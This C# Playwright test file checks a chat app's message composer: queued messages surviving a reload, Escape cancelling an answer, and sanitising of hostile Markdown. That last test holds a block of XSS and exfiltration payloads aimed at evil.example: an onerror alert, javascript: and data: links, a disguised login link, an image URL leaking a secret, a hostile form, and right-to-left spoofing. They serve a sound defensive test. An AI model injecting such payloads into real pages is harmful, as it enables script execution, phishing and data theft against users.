using Microsoft.Playwright;
using Parley.ScriptedProvider;
using static Microsoft.Playwright.Assertions;

namespace Parley.Browser.Tests;

/// <summary>Writing messages: what waits, what is kept, what stops.</summary>
public sealed class ComposerPageTests(BrowserFixture browser)
{
    [Fact]
    public async Task What_is_written_while_an_answer_comes_waits_over_a_reload_and_goes_in_order()
    {
        await using var visit = await OwnersVisit.BeginAsync(browser, Scripts.Held(Scripts.Words("word", 120)));
        var page = visit.Page;
        await page.AskAsync("First");
        await Expect(page.Answers).ToContainTextAsync("word3");
        await page.AskAsync("Second");
        await page.AskAsync("Third");
        await Expect(page.Page.GetByTestId("waiting-message")).ToHaveCountAsync(2);
        await page.ShowAsync("waiting");
        await page.Composer.FillAsync("Not sent yet");
        await Expect(page.Page.GetByTestId("send")).ToBeEnabledAsync();
        await page.Page.WaitForFunctionAsync("() => (localStorage.getItem('parley.drafts') ?? '').includes('Not sent yet')");

        await page.Page.ReloadAsync();
        await Expect(page.Composer).ToHaveValueAsync("Not sent yet");
        visit.Server.Scripts.Release();
        await Expect(page.Questions).ToHaveTextAsync(["First", "Second", "Third"]);
        await Expect(page.Page.GetByTestId("waiting-message")).ToHaveCountAsync(0);
    }

    [Fact]
    public async Task Escape_stops_the_answer_and_what_waits_stays()
    {
        await using var visit = await OwnersVisit.BeginAsync(browser, Scripts.Held(Scripts.Words("word", 600)));
        var page = visit.Page;
        await page.AskAsync("First");
        await Expect(page.Answers).ToContainTextAsync("word3");
        await Expect(page.Page.GetByTestId("send")).ToHaveCountAsync(0);
        await page.AskAsync("Second");
        await page.Composer.PressAsync("Escape");
        await page.ExpectStateAsync("cancelled");
        await Expect(page.Page.GetByTestId("waiting-message")).ToHaveTextAsync("Second");
        await page.Page.GetByRole(AriaRole.Button, new() { Name = "Send now" }).ClickAsync();
        await Expect(page.Questions).ToHaveTextAsync(["First", "Second"]);
    }

    [Fact]
    public async Task Hostile_Markdown_neither_runs_nor_loads_nor_leads_astray()
    {
        await using var visit = await OwnersVisit.BeginAsync(browser, new Script { Text = Hostile });
        var page = visit.Page;
        var strangers = new List<string>();
        page.Page.Request += (_, request) => strangers.AddRange(request.Url.Contains("evil", StringComparison.Ordinal) ? [request.Url] : []);
        page.Page.Dialog += (_, dialog) => strangers.Add(dialog.Message);
        await page.AskAsync("Attack me");
        await page.ExpectAnswerAsync("the end of it");
        await Expect(page.Answers.GetByText("U+202E").First).ToBeVisibleAsync();
        await page.ShowAsync("hostile");

        var active = page.Answers.Locator("img:not([src^='/']), script, iframe, object, embed, style, svg [href], form[action], video, audio, link");
        Assert.Empty(await active.EvaluateAllAsync<string[]>("elements => elements.map(element => element.outerHTML.slice(0, 200))"));
        var addresses = await page.Answers.Locator("a").EvaluateAllAsync<string[]>("links => links.map(link => link.protocol)");

        // One that leads nowhere has no protocol.
        Assert.All(addresses, protocol => Assert.Contains(protocol, (string[])["http:", "https:", "mailto:", ":"]));
        Assert.Empty(strangers);
    }

    private const string Hostile = """
        # Hello <img src="https://evil.example/a.png" onerror="alert(1)">

        <script>alert(2)</script><style>body { display: none }</style><iframe src="https://evil.example"></iframe>

        ![a picture](https://evil.example/b.png?secret=1) [a](javascript:alert(3)) [b](data:text/html,<script>alert(4)</script>)
        [c](JaVaScRiPt:alert(5)) [d](vbscript:x) [https://bank.example](https://evil.example/login) <https://evil.example/auto>

        This is ‮txt.exe‬ and z̸̡̛̙̘̗̖̕̚͜͠͡ͅ͏̴̵̶̷̸҉͈͉͇͍͎͓͔͕͖͗͘͢͝ a tower.

        $$\href{javascript:alert(6)}{x} \includegraphics{https://evil.example/c.png} \rule{900em}{900em}$$

        <form action="https://evil.example"><input name="getElementById"></form>

        ```js
        const access = "‮user";
        ```

        the end of it
        """;
}
